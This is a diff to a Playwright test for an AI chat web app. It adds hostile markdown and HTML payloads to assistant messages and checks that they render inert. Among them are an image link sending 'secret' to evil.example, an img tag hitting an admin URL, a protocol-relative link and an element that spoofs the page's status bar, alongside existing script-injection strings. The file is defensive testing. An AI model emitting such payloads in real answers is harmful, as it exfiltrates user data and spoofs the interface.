@@ -93,17 +93,39 @@ def assert_inert(page) -> None:
     assert "<script>alert(1)</script>" in pane.locator(".message.assistant pre code").first.inner_text()
 
 
+# Beyond script: answers must not load anything, leave the site, or pose as the page.
+LEAKS = [
+    "![leak](https://evil.example/pixel?q=secret)",
+    '<img src="/admin/conversations/conversation/1/change/">',
+    "[protocol-relative](//evil.example/x)",
+    '<span id="sb-model">pwned</span>',
+]
+
+
 def test_hostile_markdown_stays_inert(live_daphne, new_page, users, smollm2):
     conversation = Conversation.objects.create(owner=users.alice, model=smollm2)
     question = Message.objects.create(conversation=conversation, role="user", content="\n\n".join(XSS))
     Message.objects.create(
-        conversation=conversation, parent=question, role="assistant", status="done", content="\n\n".join(XSS)
+        conversation=conversation,
+        parent=question,
+        role="assistant",
+        status="done",
+        content="\n\n".join(XSS + LEAKS),
     )
+    requests: list[str] = []
     page = signed_in_page(new_page, live_daphne, users.alice)
+    page.on("request", lambda request: requests.append(request.url))
     page.goto(f"{live_daphne.url}/c/{conversation.pk}/")
     page.locator(".message.assistant").wait_for()
     page.wait_for_timeout(500)
     assert_inert(page)
+    pane = page.locator("[data-testid=messages]")
+    assert pane.locator("img").count() == 0, "answers load no images"
+    assert not [u for u in requests if "evil.example" in u or "/admin/" in u], requests
+    assert pane.get_by_role("link", name="🖼 leak").get_attribute("href") == "https://evil.example/pixel?q=secret"
+    assert pane.locator("a", has_text="protocol-relative").get_attribute("href") is None
+    assert page.locator("#sb-model").inner_text() != "pwned"  # the page's own status bar, not the answer's
+    assert pane.locator("#user-content-sb-model").count() == 1
     # what the person typed is shown as typed
     assert page.locator(".message.user [data-testid=content]").inner_text() == "\n\n".join(XSS)
 
